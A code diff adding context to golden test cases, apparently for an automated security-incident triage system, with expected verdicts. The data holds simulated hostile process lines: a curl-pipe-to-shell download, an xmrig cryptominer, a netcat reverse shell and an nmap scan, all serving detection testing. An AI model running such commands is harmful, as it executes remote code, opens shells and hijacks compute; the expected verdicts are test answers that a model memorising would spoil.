@@ -163,6 +163,16 @@ export const COMPUTE: readonly GoldenCase[] = [
         'recent-deployments': 'the cluster could not be reached',
       },
     },
+    further: {
+      processes: [
+        [1, undefined, '/usr/local/bin/node', 'node server.js', -7_200],
+        [4690, 1, '/bin/sh', 'sh -c curl -s http://203.0.113.20/d.sh | sh', -12],
+        [4711, 4690, '/tmp/.x/xmrig', '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333', 0],
+      ],
+      names: ['pool.example.net'],
+      past: [{ verdict: 'malicious', outcome: 'contained' }],
+      similar: [{ what: 'technique', value: 'T1496', verdict: 'malicious', outcome: 'contained' }],
+    },
     expected: {
       verdict: 'malicious',
       acceptable: ['suspicious'],
@@ -186,6 +196,9 @@ export const COMPUTE: readonly GoldenCase[] = [
         [931, 900, '/usr/bin/nc', 'nc -e /bin/bash 203.0.113.9 4444', 0, { user: 'ec2-user' }],
       ],
       connections: [['203.0.113.9', 4444]],
+    },
+    further: {
+      past: [{ verdict: 'suspicious', outcome: 'expired' }],
     },
     expected: {
       verdict: 'malicious',
@@ -247,6 +260,10 @@ export const COMPUTE: readonly GoldenCase[] = [
     readBack: 'confirmed',
     alerts: [{ file: `${PUSH}/incident-empty-bare-macros.template-v1.json` }],
     context: {},
+    further: {
+      processes: [[310, undefined, '/usr/bin/nmap', 'nmap -sS 10.0.0.0/24', -1]],
+      connections: [['10.0.0.21', 22]],
+    },
     expected: { verdict: 'suspicious', severity: ['medium', 'high'], techniques: ['T1046'] },
   },
   {
@@ -289,6 +306,11 @@ export const COMPUTE: readonly GoldenCase[] = [
       processes: [JAVA, FETCH, [4720, 4690, '/tmp/.x/xmrig', undefined, 5]],
       vulnerabilities: [LOG4SHELL],
       pod: { service: 'LoadBalancer', tokenMounted: true },
+    },
+    further: {
+      intel: [
+        { indicator: 'pool.example.net', kind: 'domain', verdict: 'malicious', detail: 'mining pool in 4 reports' },
+      ],
     },
     expected: {
       verdict: 'malicious',
